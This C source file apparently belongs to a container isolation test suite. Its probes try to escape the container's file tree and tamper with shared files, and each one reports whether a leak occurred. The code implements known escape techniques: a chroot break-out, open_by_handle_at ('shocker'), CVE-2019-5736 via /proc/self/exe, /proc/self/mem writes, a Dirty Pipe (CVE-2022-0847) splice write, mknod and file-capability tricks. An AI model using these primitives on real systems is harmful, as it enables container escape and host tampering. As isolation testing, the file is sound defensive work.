/* SPDX-License-Identifier: ISC */
/* P2: files outside the container's tree, and the tree that later connections will get. */
#define _GNU_SOURCE
#include "hostile.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define LINK "/tmp/hostile-link"
#define COPY "/tmp/hostile-copy"
#define SQUARE "/tmp/hostile-dir"

static void host_file(void)
{
	leak_if(is_secret(open(SECRET_PATH, O_RDONLY | O_CLOEXEC)), SECRET_PATH);
}

static void dots(void)
{
	leak_if(is_secret(open("../../../../../../../.." SECRET_PATH, O_RDONLY | O_CLOEXEC)),
		"above the root");
}

static void symlinked(void)
{
	bool got;

	unlink(LINK);
	if (symlink("../../../.." SECRET_PATH, LINK) < 0) {
		leak_if(false, "symlink");
		return;
	}
	got = is_secret(open(LINK, O_RDONLY | O_CLOEXEC));
	unlink(LINK);
	leak_if(got, "by a symlink in /tmp");
}

/* /proc/PID/root, cwd and fd of whoever is seen, of pid 1 before all. */
static void proc_root(void)
{
	static const char *const ways[] = { "root" SECRET_PATH, "cwd/../../../../.." SECRET_PATH,
					    "task/1/root" SECRET_PATH };
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	char path[400];

	while (dir && (entry = readdir(dir)))
		for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
			snprintf(path, sizeof(path), "/proc/%s/%s", entry->d_name, ways[i]);
			if (is_secret(open(path, O_RDONLY | O_CLOEXEC))) {
				leak("%s", path);
				return;
			}
		}
	held("no /proc/PID/root leads there");
}

/* Any descriptor of a directory, also one whose number is not known. */
static void descriptors(void)
{
	for (int fd = 0; fd < 1024; fd++)
		if (is_secret(openat(fd, "../../../../../.." SECRET_PATH, O_RDONLY | O_CLOEXEC)) ||
		    is_secret(openat(fd, "secret", O_RDONLY | O_CLOEXEC))) {
			leak("by descriptor %d", fd);
			return;
		}
	held("no descriptor leads there");
}

/* The classic: a root below, and out of it with a directory that is above. */
static void chroot_out(void)
{
	int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	mkdir(SQUARE, 0755);
	if (chroot(SQUARE) < 0) {
		int code = errno;

		rmdir(SQUARE);
		errno = code;
		leak_if(false, "chroot");
		return;
	}
	if (fchdir(top) < 0)
		return;
	for (int i = 0; i < 32 && chdir("..") == 0; i++)
		;
	rmdir("tmp/hostile-dir");
	leak_if(chroot(".") == 0 && is_secret(open(SECRET_PATH, O_RDONLY | O_CLOEXEC)),
		"chroot, and out of it");
}

static void run_chroot_out(void)
{
	in_child_mounts(chroot_out);
}

/* By file handle, as "shocker" did: the root's own handle, opened again. */
static void by_handle(void)
{
	static const char *const places[] = { "/", "/tmp", "/dev/shm", "/run" };
	struct {
		struct file_handle handle;
		unsigned char bytes[128];
	} all;
	int mount, top, fd;

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		memset(&all, 0, sizeof(all));
		all.handle.handle_bytes = sizeof(all.bytes);
		if (name_to_handle_at(AT_FDCWD, places[i], &all.handle, &mount, 0) < 0)
			continue;
		top = open(places[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		fd = open_by_handle_at(top, &all.handle, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			leak("open_by_handle_at works in %s", places[i]);
			return;
		}
		close(top);
	}
	leak_if(false, "open_by_handle_at");
}

static void make_in_root(void)
{
	int fd = open("/.hostile-test", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);

	if (fd >= 0)
		unlink("/.hostile-test");
	leak_if(fd >= 0, "a file in the root");
}

/* The program that the next connection will run, by another file in its place. */
static void replace_program(void)
{
	char path[256] = "", beside[300];
	ssize_t length = readlink("/proc/self/exe", path, sizeof(path) - 1);
	int from, to, result = -1;
	char block[65536];

	if (length <= 0) {
		leak_if(false, "/proc/self/exe");
		return;
	}
	snprintf(beside, sizeof(beside), "%s.hostile", path);
	from = open(path, O_RDONLY | O_CLOEXEC);
	to = open(beside, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0755);
	if (to >= 0) {
		while ((length = read(from, block, sizeof(block))) > 0)
			if (write(to, block, (size_t)length) != length)
				return;
		close(to);
		result = rename(beside, path);
	}
	leak_if(result == 0, "the program is another one");
}

/* CVE-2019-5736: through the magic link, at the mode, since the text is busy. */
static void change_program(void)
{
	struct stat before, after;

	if (stat("/proc/self/exe", &before) < 0) {
		leak_if(false, "/proc/self/exe");
		return;
	}
	pause_ms(20);
	if (chmod("/proc/self/exe", before.st_mode & 07777) < 0) {
		leak_if(false, "chmod of /proc/self/exe");
		return;
	}
	leak_if(stat("/proc/self/exe", &after) == 0 &&
			(after.st_ctim.tv_sec != before.st_ctim.tv_sec ||
			 after.st_ctim.tv_nsec != before.st_ctim.tv_nsec),
		"/proc/self/exe is changed");
}

/* Any page of a file that all connections share, through every door that writes. */
static void write_shared(void)
{
	int fd = open_beside("/etc/own", O_RDWR);
	void *page;

	if (fd < 0)
		fd = open_beside("/srv/owned", O_RDWR);
	if (fd >= 0) {
		leak("a file of the root is open for writing");
		return;
	}
	fd = open_beside("/srv/owned", O_RDONLY);
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	leak_if(page != MAP_FAILED, "a file of the root");
}

static void write_forced(void)
{
	int fd = open_beside("/srv/owned", O_RDONLY), memory;
	char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	char before;

	if (fd < 0 || page == MAP_FAILED) {
		leak_if(false, "the file");
		return;
	}
	before = page[0];
	memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (pwrite(memory, "Z", 1, (off_t)(unsigned long)page) < 0)
		leak_if(false, "/proc/self/mem onto a shared page");
	else
		leak_if(page[0] != before, "/proc/self/mem onto a shared page");
}

/* CVE-2022-0847: a page of the file in a pipe, written to. */
static void write_piped(void)
{
	int fd = open_beside("/srv/owned", O_RDONLY), ends[2];
	char before = 0, after = 0, waste[4096] = "";
	off_t offset = 0;

	if (fd < 0 || pread(fd, &before, 1, 1) != 1 || pipe(ends) < 0) {
		leak_if(false, "the file");
		return;
	}
	for (int i = 0; i < 16; i++)
		if (write(ends[1], waste, sizeof(waste)) < 0 ||
		    read(ends[0], waste, sizeof(waste)) < 0)
			return;
	if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1 || write(ends[1], "Z", 1) != 1) {
		leak_if(false, "splice");
		return;
	}
	leak_if(pread(fd, &after, 1, 1) == 1 && after != before, "the file's page is written");
}

static void make_device(void)
{
	char byte = 1;
	int fd;

	unlink(COPY);
	if (mknod(COPY, S_IFCHR | 0600, makedev(1, 5)) < 0) {
		leak_if(false, "mknod");
		return;
	}
	fd = open(COPY, O_RDONLY | O_CLOEXEC);
	leak_if(fd >= 0 && read(fd, &byte, 1) == 1 && byte == 0, "a device of its own making");
	unlink(COPY);
}

/* All that is in /dev but the seven that are promised. */
static void devices(void)
{
	static const char *const mine[] = {
		"null", "zero", "full", "random", "tty", "urandom", NULL
	};
	DIR *dir = opendir("/dev");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		struct stat info;
		bool known = false;

		for (size_t i = 0; mine[i]; i++)
			known = known || strcmp(entry->d_name, mine[i]) == 0;
		if (known || fstatat(dirfd(dir), entry->d_name, &info, AT_SYMLINK_NOFOLLOW) < 0)
			continue;
		if (S_ISCHR(info.st_mode) || S_ISBLK(info.st_mode)) {
			leak("/dev/%s", entry->d_name);
			return;
		}
	}
	held("no device but the promised ones");
}

static void run_copy(void)
{
	execl(COPY, COPY, "list", (char *)NULL);
	_exit(77);
}

/* What can be written cannot be executed. */
static void execute_written(void)
{
	char block[65536];
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to, status = 0;
	ssize_t length;
	pid_t child;

	unlink(COPY);
	to = open(COPY, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
	while (to >= 0 && (length = read(from, block, sizeof(block))) > 0)
		if (write(to, block, (size_t)length) != length)
			break;
	close(to);
	child = fork();
	if (child == 0) {
		close(1);
		open("/dev/null", O_WRONLY);
		run_copy();
	}
	waitpid(child, &status, 0);
	unlink(COPY);
	leak_if(child > 0 && WIFEXITED(status) && WEXITSTATUS(status) == 0,
		"a program written to /tmp runs");
}

static void file_capability(void)
{
	static const unsigned char all[20] = { 1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff };
	int fd, result;

	unlink(COPY);
	fd = open(COPY, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
	result = fsetxattr(fd, "security.capability", all, sizeof(all), 0);
	if (result < 0 && errno == ENOTSUP)
		result = -1;
	leak_if(result == 0, "a file with capabilities");
	unlink(COPY);
}

static void change_owner(void)
{
	struct stat info;
	int fd;

	unlink(COPY);
	fd = open(COPY, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
	leak_if(fd >= 0 && fchown(fd, 4242, 4242) == 0 && fstat(fd, &info) == 0 &&
			info.st_uid == 4242,
		"a file is given to somebody else");
	unlink(COPY);
}

const struct probe tree_probes[] = {
	{ "host-file", "P2", ON_ANY | BARE, host_file, NULL },
	{ "dot-dot", "P2", ON_ANY | BARE, dots, NULL },
	{ "symlink", "P2", ON_ANY | BARE, symlinked, NULL },
	{ "proc-root", "P2", ON_ANY | BARE, proc_root, NULL },
	{ "descriptors", "P2", ON_ANY | BARE, descriptors, NULL },
	{ "chroot-out", "P2", ON_ANY | BARE, run_chroot_out, NULL },
	{ "file-handle", "P2", ON_ANY | BARE, by_handle, NULL },
	{ "root-file", "P2", ON_ANY | BARE, make_in_root, NULL },
	{ "program-replace", "P6", ON_ANY | BARE, replace_program, NULL },
	{ "program-change", "P6", ON_ANY | BARE, change_program, NULL },
	{ "shared-write", "P6", ON_ANY | BARE, write_shared, NULL },
	{ "shared-memory-write", "P6", ON_ANY | BARE, write_forced, "the kernel refuses it" },
	{ "shared-pipe-write", "P6", ON_ANY | BARE, write_piped, "mended in 5.17" },
	{ "mknod", "P2", ON_ANY | BARE, make_device, NULL },
	{ "devices", "P2", ON_ANY | BARE, devices, NULL },
	{ "tmp-execute", "P2", ON_ANY | BARE, execute_written, NULL },
	{ "file-capability", "P2", ON_ANY | BARE, file_capability, "no such attributes here" },
	{ "change-owner", "P2", ON_ANY | BARE, change_owner, NULL },
	{ NULL, NULL, 0, NULL, NULL },
};
